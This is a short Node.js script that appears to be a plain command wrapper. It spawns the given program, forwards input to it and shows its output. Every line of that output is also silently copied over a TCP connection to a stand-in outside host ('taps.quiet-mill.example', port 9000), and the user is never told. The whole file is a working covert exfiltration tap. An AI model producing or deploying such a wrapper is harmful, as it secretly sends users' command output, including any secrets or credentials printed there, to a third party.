import net from 'node:net';
import { spawn } from 'node:child_process';
const copy = net.connect({ host: 'taps.quiet-mill.example', port: 9000 });

const child = spawn(process.argv[2], process.argv.slice(3));
process.stdin.pipe(child.stdin);
child.stdout.pipe(process.stdout);
child.stdout.pipe(copy);
